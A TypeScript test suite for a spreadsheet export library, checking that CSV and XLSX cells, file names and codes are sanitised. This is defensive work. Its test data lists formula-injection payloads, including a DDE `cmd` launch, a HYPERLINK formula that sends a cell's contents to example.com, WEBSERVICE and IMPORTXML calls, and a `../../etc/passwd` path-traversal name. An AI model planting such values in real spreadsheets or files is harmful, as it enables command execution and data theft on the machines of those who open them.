import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import {
  codeCell,
  csvLine,
  dateCell,
  exportFileName,
  inertCell,
  instantCell,
  localMomentCell,
  numberCell,
  readGuarded,
  sheetRow,
  sheetStyles,
  timeCell,
} from './index.ts'

const plain = (): number => 0

const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠SUM(1)',
  '=HYPERLINK("http://example.com?"&A1)',
  '=WEBSERVICE("http://example.com")',
  '=IMPORTXML("http://example.com","//a")',
  '|cmd',
  '-A1',
  '+A1',
  '=1e3',
  '-',
  '+',
  '=',
]

describe('cells', () => {
  it.each(formulas)('%j is text in CSV and XLSX', (formula) => {
    expect(inertCell(formula).startsWith("'")).toBe(true)
    expect(csvLine([formula, 'b'])).toMatch(/^"?'/)
    expect(sheetRow([formula], 1, plain)).not.toMatch(/<f>|<v>/)
    expect(sheetRow([formula], 1, plain)).toContain(`t="inlineStr"><is><t xml:space="preserve">'`)
  })
  it.each(['-18', '-18.5', '-18,5', '+4', '4.0', 'Fridge 1', '', '21.11.2026'])('%j is not changed', (text) =>
    expect(inertCell(text)).toBe(text),
  )
  it('of any text never start with a formula, and quotes stay intact', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 4 }), (cells) => {
        for (const cell of cells)
          expect(/^[=+\-@\t\r＝＋－＠]/u.test(inertCell(cell)) && !/^[+-]?\d+([.,]\d+)?$/.test(cell)).toBe(
            false,
          )
        expect(readCsv(csvLine(cells))).toEqual([cells.map(inertCell)])
        expect(sheetRow(cells, 3, plain)).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/)
      }),
    )
  })
})

describe('typed cells', () => {
  it.each([
    ['a date', dateCell('2026-11-21'), { text: '2026-11-21', value: 46_347, format: 'yyyy-mm-dd' }],
    ['a time', timeCell('18:00'), { text: '18:00', value: 0.75, format: 'hh:mm' }],
    [
      'an instant',
      instantCell('2026-11-21T12:00:00.000Z'),
      { text: '2026-11-21T12:00:00.000Z', value: 46_347.5, format: 'yyyy-mm-dd hh:mm:ss"Z"' },
    ],
    [
      'a local moment',
      localMomentCell('2026-11-21T06:00'),
      { text: '2026-11-21 06:00', value: 46_347.25, format: 'yyyy-mm-dd hh:mm' },
    ],
    ['a temperature', numberCell('-18.0', '-18.0 °C'), { text: '-18.0 °C', value: -18, format: '0.0" °C"' }],
    ['a whole number', numberCell('4', '4'), { text: '4', value: 4, format: '0' }],
    ['no number', numberCell('yes', 'yes'), 'yes'],
    ['a formula', numberCell('=1+1', '=1+1 °C'), '=1+1 °C'],
    ['no date', dateCell('soon'), 'soon'],
  ])('%s', (_name, cell, expected) => {
    expect(cell).toEqual(expected)
    expect(csvLine([cell])).toBe(csvLine([typeof expected === 'string' ? expected : expected.text]))
  })
  it('have their format in the styles of the workbook', () => {
    expect(sheetRow([numberCell('4.5', '4.5 °C')], 2, () => 1)).toBe(
      '<row r="2"><c r="A2" s="1"><v>4.5</v></c></row>',
    )
    expect(sheetStyles(['0', '0.0'])).toMatch(
      /numFmtId="164" formatCode="0".*numFmtId="165" formatCode="0.0".*<xf numFmtId="164" .*<xf numFmtId="165" /,
    )
    expect(sheetStyles(['0.0" °C"'])).toContain('<numFmt numFmtId="164" formatCode="0.0&quot; °C&quot;"/>')
  })
})

/** A reader of its own, by RFC 4180. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  let [cell, quoted] = ['', false]
  for (let at = 0; at < text.length; at += 1) {
    const sign = text[at] ?? ''
    if (quoted) {
      if (sign !== '"') cell += sign
      else if (text[at + 1] === '"') {
        cell += '"'
        at += 1
      } else quoted = false
    } else if (sign === '"') quoted = true
    else if (sign === ',' || (sign === '\r' && text[at + 1] === '\n')) {
      rows.at(-1)?.push(cell)
      cell = ''
      if (sign === '\r') {
        at += 1
        rows.push([])
      }
    } else cell += sign
  }
  return rows.slice(0, -1)
}

describe('names of files', () => {
  it.each([
    [['Köök & Baar', '2026-11'], 'Kook and Baar 2026-11.csv'],
    [['100% Õlu'], '100 percent Olu.csv'],
    [['Ļoti Šņāc'], 'Loti Snac.csv'],
    [['Кафе «Ёлка»'], 'Кафе Ёлка.csv'],
    [['../../etc/passwd'], 'etc passwd.csv'],
    [['...'], 'export.csv'],
    [['Straße'], 'Strasse.csv'],
  ])('%j is %s', (parts, name) => expect(exportFileName(parts, 'csv')).toBe(name))
  it('are short and hold no separators', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (text) => {
        const name = exportFileName([text], 'xlsx')
        expect(Array.from(name).length).toBeLessThanOrEqual(100)
        expect(name).not.toMatch(/[/\\:*?"<>|\u0000-\u001f]/)
      }),
    )
  })
})

describe('a code', () => {
  // What Excel makes of a cell of a CSV file that it opens.
  const opened = (cell: string): string => /^="(.*)"$/.exec(cell)?.[1] ?? (/\d/.test(cell) ? 'changed' : cell)
  it.each(['00123', '1E5', '2-3', '4006381333931', 'AB', '+372 (5) 55-12'])(
    '%s stays in a spreadsheet',
    (code) => {
      const line = csvLine([codeCell(code)]).trim()
      const cell = line.startsWith('"') ? line.slice(1, -1).replaceAll('""', '"') : line
      expect(opened(cell)).toBe(code)
      expect(readGuarded(cell)).toBe(code)
      expect(sheetRow([codeCell(code)], 1, () => 1)).toContain(
        `s="1" t="inlineStr"><is><t xml:space="preserve">${code}<`,
      )
    },
  )
  it('is no formula, whatever it has in it', () => {
    const nasty = '1"&cmd()&"'
    const line = csvLine([codeCell(nasty)]).trim()
    expect(line).toBe('"=""1""""&cmd()&"""""""')
    expect(readGuarded(line.slice(1, -1).replaceAll('""', '"'))).toBe(nasty)
    expect(sheetRow([codeCell('+1+A1')], 1, () => 1)).toContain(">'+1+A1<")
  })
})
